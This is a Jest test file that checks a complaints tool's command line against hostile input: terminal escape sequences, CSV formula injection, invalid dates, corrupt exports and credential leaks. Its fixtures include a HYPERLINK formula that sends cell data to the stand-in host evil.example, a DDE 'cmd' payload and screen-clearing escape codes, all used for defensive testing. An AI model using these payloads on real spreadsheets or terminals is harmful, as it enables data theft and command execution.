/**
 * The command line run in-process on hostile or careless input: what it prints never acts
 * on the terminal or a spreadsheet, never holds a credential, never guesses a date, and a
 * bad file is exit code 3 naming its line — never "unexpected error".
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ComplaintService } from '../../src/application/complaintService';
import { GENESIS_HASH } from '../../src/audit/exportLine';
import { exportStreams } from '../../src/audit/ndjson';
import type { CliIo, CliStream } from '../../src/cli/io';
import { runCli } from '../../src/cli/program';
import { InMemoryEventStore } from '../../src/eventstore/inMemoryEventStore';
import type { EventStoreDBEventStore } from '../../src/eventstore/eventStoreDBEventStore';
import { FakeEventStoreDBServer } from '../esdb/fakeEventStoreDBServer';
import { storeOn } from '../esdb/esdbTestKit';
import { ID, at, cmd } from '../domain/spec';
import { SPECIAL_CHARACTERS, leaks, passwordsWith } from '../eventstore/secrets';

jest.setTimeout(60_000);

const capture = (isTTY = false): CliStream & { text: () => string } => {
  const chunks: string[] = [];
  return { isTTY, write: (s: string) => chunks.push(s), text: () => chunks.join('') };
};

/** Runs `complaints <args>` in-process; everything it wrote, console included. */
const run = async (args: readonly string[], tty = false): Promise<{ code: number; stdout: string; stderr: string; console: string }> => {
  const out = capture(tty);
  const err = capture(tty);
  const consoled: string[] = [];
  const spies = (['warn', 'log', 'error'] as const).map((k) => jest.spyOn(console, k).mockImplementation((...a: unknown[]) => void consoled.push(a.map(String).join(' '))));
  const io: CliIo = { stdout: out, stderr: err, env: {}, cwd: dir, now: () => new Date('2022-03-01T12:00:00Z') };
  try {
    const code = await runCli([...args, '--no-progress'], io);
    return { code, stdout: out.text(), stderr: err.text(), console: consoled.join('\n') };
  } finally {
    for (const s of spies) s.mockRestore();
  }
};

// ESC, BEL, a one-character CSI (U+009B), a right-to-left override: what a terminal acts on.
const CLEAR_SCREEN = '\u001b[2J\u001b[H';
const WINDOW_TITLE = '\u001b]0;pwned\u0007';
const HOSTILE = `Bill${CLEAR_SCREEN}${WINDOW_TITLE}\u009b31m\u202etxt.exe\rOVERWRITE`;
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

let dir: string;
let hostile: string;
let honest: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'complaints-cli-safety-'));
  const store = new InMemoryEventStore({ clock: () => new Date('2022-01-11T14:00:00Z') });
  const service = new ComplaintService({ store, clock: () => new Date('2022-01-11T14:00:00Z') });
  let n = 0;
  const meta = () => ({ commandId: `00000000-0000-4000-8000-${String(++n).padStart(12, '0')}`, actor: { id: 'agent-ana', role: 'agent' as const } });
  await service.handle(
    cmd.receive({ receivedAt: at('2022-01-10T09:00:00+01:00'), subject: HOSTILE, description: HOSTILE, category: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', product: '+cmd|\' /C calc\'!A0' }),
    meta(),
  );
  hostile = join(dir, 'hostile.ndjson');
  writeFileSync(hostile, await exportStreams(store, [ID]));
  const plain = new InMemoryEventStore({ clock: () => new Date('2022-01-11T14:00:00Z') });
  await new ComplaintService({ store: plain, clock: () => new Date('2022-01-11T14:00:00Z') }).handle(cmd.receive(), meta());
  honest = join(dir, 'honest.ndjson');
  writeFileSync(honest, await exportStreams(plain, [ID]));
});

afterAll(() => {
  rmSync(dir, { recursive: true, force: true });
});

describe('terminal output carries no control character or escape sequence', () => {
  it.each([['text'], ['json']])('replay --format %s escapes them (JSON keeps the same values)', async (format) => {
    const r = await run(['replay', ID, '--file', hostile, '--format', format], true);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain('\\u001b[2J');
    if (format === 'json') expect((JSON.parse(r.stdout) as { state: { subject: string } }).state.subject).toBe(HOSTILE);
  });

  it('replay --out writes the text timeline escaped too (it is read with cat)', async () => {
    const out = join(dir, 'timeline.txt');
    expect((await run(['replay', ID, '--file', hostile, '--out', out])).code).toBe(0);
    const { readFileSync } = await import('node:fs');
    expect(readFileSync(out, 'utf8')).not.toMatch(RAW_CONTROL);
  });

  it('report tables and error messages quoting the data are escaped', async () => {
    const table = await run(['report', 'recurring', '--file', hostile, '--by', 'category'], true);
    expect(table.stdout).not.toMatch(RAW_CONTROL);
    const bad = await run(['replay', `${ID}\u001b[2J`, '--file', hostile]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).not.toMatch(RAW_CONTROL);
  });
});

describe('CSV cells never run as spreadsheet formulas', () => {
  it('report recurring --format csv neutralises =, +, -, @, tab and CR at the start of a cell', async () => {
    const byCategory = await run(['report', 'recurring', '--file', hostile, '--by', 'category', '--format', 'csv']);
    const byProduct = await run(['report', 'recurring', '--file', hostile, '--by', 'product', '--format', 'csv']);
    const cells = `${byCategory.stdout}${byProduct.stdout}`.split(/\r\n/).flatMap((line) => line.split(','));
    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(byCategory.stdout).toContain(`"'=HYPERLINK(`);
    expect(byProduct.stdout).toContain(`'+cmd|`);
  });
});

describe('ids and instants on the command line', () => {
  it('replay of a complaint id in upper case is the same complaint', async () => {
    const r = await run(['replay', ID.toUpperCase(), '--file', honest, '--format', 'json']);
    expect(r.code).toBe(0);
    expect((JSON.parse(r.stdout) as { complaintId: string }).complaintId).toBe(ID);
  });

  it.each(['2022-02-30T00:00:00Z', '2022-02-30', '2023-02-29T10:00:00Z', '2022-02-01T24:00:00Z', '2024-04-31T10:00:00+02:00'])('--as-of %s is refused (exit 2), never run as another day', async (asOf) => {
    const r = await run(['replay', ID, '--file', honest, '--as-of', asOf]);
    expect(r.code).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('--as-of expects an instant');
  });
});

describe('a bad export is exit code 3 naming its line, never an unexpected error', () => {
  it('verify of a line nested 50,000 levels deep', async () => {
    const deep = `${JSON.stringify({ streamName: `complaint-${ID}`, revision: '0', id: ID, type: 'X', data: 'DEEP', metadata: {}, createdAt: '2022-01-01T00:00:00.000Z', prevHash: GENESIS_HASH, hash: GENESIS_HASH }).replace('"DEEP"', `${'['.repeat(50_000)}${']'.repeat(50_000)}`)}\n`;
    const file = join(dir, 'deep.ndjson');
    writeFileSync(file, deep);
    const r = await run(['verify', file]);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('failed verification at line 1');
    expect(r.stderr).not.toMatch(/unexpected/i);
  });

  it('verify accepts an export saved with a byte-order mark and a trailing blank line', async () => {
    const { readFileSync } = await import('node:fs');
    const file = join(dir, 'bom.ndjson');
    writeFileSync(file, `\uFEFF${readFileSync(honest, 'utf8')}\r\n\r\n`);
    expect((await run(['verify', file])).code).toBe(0);
  });
});

describe('no credential of --store reaches the output', () => {
  it.each(SPECIAL_CHARACTERS)('a password with %j (raw and percent-encoded): malformed, unknown option', async (c) => {
    for (const password of passwordsWith(c)) {
      for (const store of [`esdb://admin:${password}@`, `esdb:/admin:${password}@db:2113`, `admin:${password}@db:2113`, `esdb://admin:${password}@127.0.0.1:1?tls=false&notAnOption=1&maxDiscoverAttempts=x`]) {
        const r = await run(['replay', ID, '--store', store]);
        expect(r.code).not.toBe(0);
        expect([r.stdout, r.stderr, r.console].filter(leaks)).toEqual([]);
      }
    }
  });
});

describe('complaints import --head', () => {
  let server: FakeEventStoreDBServer;
  let store: EventStoreDBEventStore;
  beforeAll(async () => {
    server = await FakeEventStoreDBServer.start();
    store = storeOn(server);
  });
  afterAll(async () => {
    await store.close();
    await server.close();
  });

  it('refuses a file cut short against the head noted at export (exit 3), writing nothing', async () => {
    const w = new InMemoryEventStore();
    const service = new ComplaintService({ store: w, clock: () => new Date('2022-01-11T14:00:00Z') });
    await service.handle(cmd.receive(), { commandId: '10000000-0000-4000-8000-000000000001', actor: { id: 'a', role: 'agent' } });
    await service.handle(cmd.assign(), { commandId: '10000000-0000-4000-8000-000000000002', actor: { id: 'a', role: 'agent' } });
    const text = await exportStreams(w, [ID]);
    const head = (JSON.parse(text.trimEnd().split('\n')[1] ?? '{}') as { hash: string }).hash;
    const cut = join(dir, 'cut.ndjson');
    writeFileSync(cut, `${text.split('\n')[0] ?? ''}\n`);
    const r = await run(['import', cut, '--store', server.connectionString(), '--head', head]);
    expect(r.code).toBe(3);
    expect(r.stderr).toContain('failed verification');
    expect(await store.readAll({ filter: { streamNamePrefixes: ['complaint-'] } })).toEqual([]);
    const whole = join(dir, 'whole.ndjson');
    writeFileSync(whole, text);
    expect((await run(['import', whole, '--store', server.connectionString(), '--head', head.toUpperCase()])).code).toBe(0);
  });
});
